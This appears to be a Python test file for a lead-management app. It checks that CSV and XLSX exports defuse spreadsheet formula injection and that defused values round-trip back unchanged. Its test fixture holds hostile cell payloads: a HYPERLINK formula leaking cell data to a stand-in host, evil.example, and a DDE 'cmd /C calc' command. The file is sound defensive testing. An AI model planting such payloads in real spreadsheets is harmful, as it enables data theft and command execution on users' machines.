"""Exports never carry a live formula (OWASP CSV injection), and what they neutralise comes back unchanged."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from db.models import Lead
from leadbot.clock import FrozenClock
from leadbot.config import Settings
from leadbot.database import open_database
from leadbot.intake.table_import import TableImport
from leadbot.intake.tables import read_table, read_table_bytes, table_bytes, write_table
from leadbot.services.exports import HEADERS
from leadbot.services.lead_input import LeadDraft
from leadbot.services.registry import Services
from leadbot.spreadsheet_safety import neutralise, restore

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = LeadDraft(
    title="-2+3",
    name='=HYPERLINK("http://evil.example/?x="&B2,"Open")',
    last_name="@SUM(1+1)",
    company_title="=cmd|' /C calc'!A0",
    post="+1+1",
    phones=["+79161234567"],
    source_code="WEBFORM",
    comment="=1+1\nsecond line",
)


async def hostile_rows(services: Services) -> list[list[object]]:
    await services.leads.create(HOSTILE)
    return await services.exports.rows()


async def test_xlsx_export_has_no_formula_cells(services: Services) -> None:
    rows = await hostile_rows(services)
    sheet = load_workbook(io.BytesIO(table_bytes(True, HEADERS, rows))).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(TRIGGERS) and text != "+79161234567"]
    assert '\'=HYPERLINK("http://evil.example/?x="&B2,"Open")' in texts  # readable, inert


async def test_csv_export_has_no_cell_starting_a_formula(services: Services) -> None:
    rows = await hostile_rows(services)
    text = table_bytes(False, HEADERS, rows).decode("utf-8-sig")
    cells = [cell for row in list(csv.reader(io.StringIO(text), delimiter=";"))[1:] for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell.startswith(TRIGGERS) and cell != "+79161234567"]


@pytest.mark.parametrize("xlsx", [True, False])
async def test_neutralised_cells_read_back_as_they_were_stored(services: Services, xlsx: bool) -> None:
    rows = await hostile_rows(services)
    table = read_table_bytes(table_bytes(xlsx, HEADERS, rows), "leads.xlsx" if xlsx else "leads.csv")
    cells = [dict(zip(table.headers, map(restore, row), strict=False)) for _line, row in table.rows]
    async with services.ctx.reading() as session:
        lead = (await session.scalars(select(Lead))).one()
    assert (cells[0]["name"], cells[0]["last_name"], cells[0]["company_title"]) == (
        lead.name,
        lead.last_name,
        lead.company_title,
    )
    assert (cells[0]["title"], cells[0]["post"], cells[0]["phone"]) == ("-2+3", "+1+1", "+79161234567")
    assert cells[0]["comments"] == "=1+1\nsecond line"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
async def test_exported_formulas_round_trip_through_the_importer(
    services: Services, settings: Settings, clock: FrozenClock, tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"export{suffix}"
    write_table(path, HEADERS, await hostile_rows(services))
    fresh = settings.model_copy(update={"database_url": f"sqlite+aiosqlite:///{tmp_path / 'fresh.db'}"})
    async with open_database(fresh, clock) as ctx:
        report = await TableImport(Services.build(ctx).imports).run(read_table(path))
        assert (report.created, report.rejected) == (1, [])
        async with ctx.reading() as session:
            copied = (await session.scalars(select(Lead))).one()
    assert (copied.title, copied.name, copied.last_name, copied.company_title, copied.post) == (
        HOSTILE.title,
        HOSTILE.name,
        HOSTILE.last_name,
        HOSTILE.company_title,
        HOSTILE.post,
    )
    assert copied.comment == HOSTILE.comment


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=1+1", "''=1+1"),  # a stored apostrophe in front of a formula survives the round trip
        ("'plain", "'plain"),
        ("plain", "plain"),
        ("", ""),
        ("+79161234567", "+79161234567"),  # a phone in E.164 can form no formula: kept as it is
    ],
)
def test_neutralise(value: str, written: str) -> None:
    assert neutralise(value) == written
    assert restore(written) == value


def test_values_that_are_not_text_are_kept() -> None:
    assert [neutralise(v) for v in (5, -3, None)] == [5, -3, None]


@given(st.text())
def test_any_text_is_written_inert_and_read_back_unchanged(text: str) -> None:
    written = str(neutralise(text))
    assert restore(written) == text
    assert not written.startswith(TRIGGERS) or re.fullmatch(r"\+[0-9]+", written)
